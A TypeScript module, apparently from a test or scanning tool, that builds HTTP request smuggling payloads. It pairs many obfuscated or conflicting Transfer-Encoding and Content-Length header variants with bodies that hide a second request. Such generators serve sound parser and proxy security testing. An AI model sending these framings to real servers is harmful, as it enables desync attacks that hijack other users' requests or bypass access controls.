/**
 * Requests whose end servers could see in different places, with another request where it would be hidden.
 * @see RFC 9112 §6.1, §6.3, §11.2
 */

const ENCODINGS = [
  'Transfer-Encoding: chunked',
  'transfer-encoding: CHUNKED',
  'Transfer-Encoding: Chunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding: chunked ',
  'Transfer-Encoding:\x0bchunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: identity',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding:\r\n chunked',
  'X: y\nTransfer-Encoding: chunked',
  'X: y\rTransfer-Encoding: chunked',
  'Transfer_Encoding: chunked',
  'Transfer-Encoding: chunked\x00',
];

const lengthsOf = (length: number): string[] => [
  `Content-Length: ${length}`,
  'Content-Length: 0',
  `Content-Length: +${length}`,
  `Content-Length: ${length}, ${length}`,
  `Content-Length: 0\r\nContent-Length: ${length}`,
  `Content-Length: 0x${length.toString(16)}`,
  `Content-Length : ${length}`,
  `Content-Length:\r\n ${length}`,
  `Content-Length: ${length}\x00`,
];

/** Bodies in which `hidden` begins where one of two readings sees the end. */
const bodiesOf = (hidden: string): string[] => [
  `0\r\n\r\n${hidden}`,
  `0;x=\n\r\n${hidden}`,
  `0\n\n${hidden}`,
  `0x0\r\n\r\n${hidden}`,
  `0\r\nAuthorization: x\r\n\r\n${hidden}`,
  hidden,
];

/** Each as one text; `hidden` is a whole request, or the beginning of one. */
export function framings(hidden: string): string[] {
  return bodiesOf(hidden).flatMap((body) => {
    const lengths = lengthsOf(body.length);
    const pairs = ENCODINGS.flatMap((encoding) => [
      [lengths[0], encoding],
      [encoding, lengths[0]],
      [lengths[1], encoding],
      [encoding],
    ]);
    return [...lengths.map((length) => [length]), ...pairs].map((lines) =>
      ['POST /entry HTTP/1.1', 'Host: a', 'Content-Type: text/plain', ...lines].join('\r\n').concat(`\r\n\r\n${body}`),
    );
  });
}
